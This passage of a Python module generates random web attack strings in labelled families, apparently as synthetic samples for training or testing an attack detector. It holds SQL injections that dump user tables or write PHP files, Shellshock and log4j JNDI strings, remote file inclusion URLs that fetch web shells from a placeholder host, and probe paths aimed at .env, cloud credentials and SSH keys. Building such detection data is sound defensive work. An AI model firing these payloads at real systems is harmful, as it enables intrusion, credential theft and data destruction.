            "http://{a}/c99.txt?",
            "http://{a}/r57.txt?",
            "php://fd/3",
            "http://{a}/id.txt??",
            "compress.zlib://{w}.gz",
            "//{a}/{w}.txt%00",
            "view-source:file:///etc/passwd",
            "netdoc:///etc/passwd",
            "php%3a%2f%2finput",
            "http://cirt.net/rfiinc.txt?",
        ],
    )
    return some(rng, text)


PROBES = """/.git/config|/.git/HEAD|/.env|/.env.local|/{w}/.env|/.svn/entries|/.aws/credentials|/.ssh/id_rsa|/wp-config.php.bak|/wp-config.php~|/phpmyadmin/index.php|/pma/|/phpMyAdmin/scripts/setup.php
|/wp-admin/install.php|/wp-admin/setup-config.php|/wp-includes/wlwmanifest.xml|/{w}/wp-includes/wlwmanifest.xml|/administrator/index.php|/admin/config.php|/cgi-bin/test.cgi|/cgi-bin/luci|/cgi-bin/{w}.sh|/cgi-bin/.%2e/.%2e/bin/sh
|/manager/html|/jmx-console/|/actuator/env|/actuator/heapdump|/actuator/gateway/routes|/solr/admin/info/system|/_ignition/execute-solution|/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|/boaform/admin/formLogin|/GponForm/diag_Form|/HNAP1/
|/c99.php|/backup.sql|/dump.sql|/db.sql.gz|/backup.zip|/{w}.bak|/{w}.php~|/{w}.old|/config.php.swp|/.htaccess|/.htpasswd|/.DS_Store|/server-status|/phpinfo.php|/web.config|/WEB-INF/web.xml|/WEB-INF/classes/{w}.class
|/../../../../etc/passwd|/%2e%2e/%2e%2e/etc/passwd|/..;/manager/html|/static/..%2f..%2fetc/passwd|/cgi-bin/../../../../bin/sh|/icons/.%2e/%2e%2e/etc/passwd|/{w}.asp::$DATA|/{w}/%3f.jsp|/{w}.php/.{t}|/{w}%00.jsp|/\\..\\..\\windows\\win.ini|/{w}.jsp%20|/fckeditor/editor/filemanager/connectors/test.html
|/index.php?s=/index/\\think\\app/invokefunction|/druid/index.html|/nacos/v1/auth/users|/.vscode/sftp.json|/.idea/workspace.xml|/id_rsa|/etc/passwd|/proc/self/environ|/ecp/{w}.js|/owa/auth/{t}.js|/api/jsonws/invoke|/jenkins/script|/debug/pprof/heap|/trace.axd|/elmah.axd|/_vti_bin/shtml.dll|/scripts/root.exe|/msadc/..%255c../winnt/system32/cmd.exe
|/setup.cgi|/goform/{w}|/currentsetting.htm|/sdk/webLanguage|/evox/about|/remote/fgt_lang?lang=/../../../..//////////dev/|/dana-na/../dana/html5acc/guacamole/../../../etc/passwd|/{w}.php.bak|/crossdomain.xml.bak|/{w}/{w}.sql|/.bash_history|/.npmrc|/.dockerenv|/.travis.yml|/storage/logs/laravel.log""".replace(
    "\n", ""
).split("|")


def probe(rng):
    text = some(rng, pick(rng, PROBES))
    return "/" + text if rng.random() < 0.05 else text


def overflow(rng):
    return pick(
        rng,
        [
            pick(rng, "Ax%0") * 1 + "%n" * rng.randint(3, 20),
            "%s" * rng.randint(4, 20),
            "%x." * rng.randint(4, 20) + "%n",
            "\x90" * rng.randint(8, 40) + "\xcc\xeb",
            "%08x" * rng.randint(3, 9),
            "\\x90\\x90\\x90\\x90" * 4,
        ],
    )


def script_name(rng):
    return some(
        rng,
        pick(
            rng,
            [
                "{w}.php",
                "{w}.jsp",
                "{w}.aspx",
                "{w}.php5",
                "{w}.phtml",
                "{w}.jpg.php",
                "{w}.php.jpg",
                "{w}.php%00.jpg",
                "{w}.jspx",
                "{w}.asp;.jpg",
                "../../{w}.jsp",
                ".htaccess",
                "{w}.ashx",
                "{w}.php ",
                "{w}.pHp",
                "../{w}.php",
                "{w}.php/",
                "{w}.cer",
                "{w}.jsp::$DATA",
            ],
        ),
    )


def strange_name(rng):
    return some(
        rng,
        pick(
            rng,
            [
                "__proto__[{w}]",
                "constructor[prototype][{w}]",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                "class.classLoader.URLs[0]",
                "{w}['{c}']",
                "_method[__construct]",
                "('\\u0023context')",
                "redirect:${#a}",
                "{w};{c}",
                "<script>alert(1)</script>",
                "{w}' or '1'='1",
                "eval($_POST[{n}])",
                "#_memberAccess['{w}']",
                "{w}[$ne]",
                "__proto__.{w}",
                "{w}/../{w}",
                "GLOBALS[{w}]",
                "_SERVER[{w}]",
                "mosConfig_absolute_path",
                "class.module.classLoader.DefaultAssertionStatus",
                "name['__proto__']",
                "{w}`{c}`",
                "{w}\r\nX-{w}",
                "action:${{n}*{n}}",
                "debug=browser&object=(#mem)",
            ],
        ),
    )


def agent(rng):
    return some(
        rng,
        pick(
            rng,
            [
                "() { :; }; {c}",
                "() { ignored; }; /bin/bash -c '{c}'",
                "sqlmap/1.{n}#stable (http://sqlmap.org)",
                "Nikto/2.1.6",
                "<?php system('{c}');?>",
                "${jndi:ldap://{a}/{t}}",
                "Mozilla/5.0 <script>alert({n})</script>",
                "' or 1=1 --",
                "Mozilla/5.0' and sleep({n}) and '1'='1",
                "<img src=x onerror=alert(1)>",
                '}__test|O:21:"JDatabaseDriverMysqli":3',
                "{{7*7}}",
                "{c}",
                ";{c}",
                "../../../etc/passwd",
                "Mozilla/5.0'\"(",
                "1'\"",
                "Mozilla/5.0 (Windows NT 6.1) {w}');{c}//",
            ],
        ),
    )


def query(rng):
    """Injections as people write them by hand, with columns and tables that have names."""
    columns = ",".join(
        pick(
            rng,
            [
                "name",
                "pass",
                "password",
                "user",
                "email",
                "login",
                "id",
                "null",
                "1",
                "2",
                "3",
                "card",
                "version()",
                "user()",
                "database()",
                "@@version",
                "table_name",
                "group_concat(table_name)",
                "concat(user,0x3a,pass)",
                word(rng),
            ],
        )
        for _ in range(rng.randint(1, 6))
    )
    table = pick(
        rng,
        [
            "users",
            "admin",
            "accounts",
            "members",
            "information_schema.tables",
            "mysql.user",
            "dual",
            "customers",
            "user",
            "wp_users",
            "sqlite_master",
            word(rng),
        ],
    )
    end = pick(rng, ["--", "-- -", "-- ", "#", "--+", "/*", "", "", ";--", "%23", ")--"])
    start = pick(
        rng, ["", num(rng), f"-{num(rng)}", word(rng), "x", "admin", f"{word(rng)}@{word(rng)}.com"]
    )
    out = pick(rng, ["'", "'", "'", '"', "')", "'))", ")", "", ""])
    quote = pick(rng, ["'", '"', ""])
    n, t = num(rng), tag(rng)
    forms = [
        f"{start}{out} union {pick(rng, ['', '', 'all ', 'distinct '])}select {columns} from {table}{end}",
        f"{start}{out} union select {columns}{end}",
        f"{start}{out} union all select {columns} from {table} where {word(rng)}={n}{end}",
        f"{start}{out} or {n}={n}{end}",
        f"{start}{out} or '{t}'='{t}",
        f"{start}{out} or '{t}'='{t}'{end}",
        f"{start}{out} and {n}={num(rng)}{end}",
        f"{start}{out} or 1=1 limit 1{end}",
        f"{start}{out} or true{end}",
        f"{start}{out} or {quote}{word(rng)}{quote} like {quote}{word(rng)}%{quote}{end}",
        f"{start}{out} and (select count(*) from {table})>{n}{end}",
        f"{start}{out} and sleep({n}){end}",
        f"{start}{out} or sleep({n})='",
        f"{start}{out}; drop table {table}{end}",
        f"{start}{out}; insert into {table} values ({n},'{t}'){end}",
        f"{start}{out}; update {table} set password='{t}'{end}",
        f"{start}{out}; waitfor delay '0:0:{n}'{end}",
        f"{start}{out} order by {rng.randint(1, 40)}{end}",
        f"{start}{out} and ascii(substring((select {columns} from {table} limit 0,1),1,1))>{n}{end}",
        f"{start}{out} and extractvalue(1,concat(0x7e,(select {columns})))" + end,
        f"(select {columns} from {table} where {word(rng)}={n})",
        f"if(now()=sysdate(),sleep({n}),0)",
        f"{start}'{end}" if end.strip() else f"{start}' or ''='",
        f"{start}{out}||(select {columns} from {table})||'",
        f"{start}{out} procedure analyse(){end}",
        f"{start}{out} into outfile '/var/www/{word(rng)}.php'{end}",
        f"{start}{out} having 1=1{end}",
        f"{start}{out} and exists(select * from {table}){end}",
    ]
    text = pick(rng, forms)
    return pick(rng, [str.upper, str.lower, str.lower, str])(text) if rng.random() < 0.7 else text


FAMILIES = {
    "sql_injection": (query, 3),
    "xss": (xss, 5),
    "path_traversal": (traversal, 3),
    "command_injection": (command, 4),
    "code_injection": (code, 4),
    "template_injection": (template, 3),
    "jndi_injection": (jndi, 1),
    "xxe": (xxe, 1),
    "ssrf": (ssrf, 1),
    "crlf_injection": (crlf, 1),
    "ssi_injection": (ssi, 0.7),
    "nosql_injection": (nosql, 0.8),
    "ldap_injection": (directory, 0.7),
    "deserialization": (serialised, 1.2),
    "file_inclusion": (wrapper, 1),
    "overflow": (overflow, 0.2),
}

__all__ = ["FAMILIES", "agent", "nosql_name", "number", "probe", "script_name", "strange_name"]
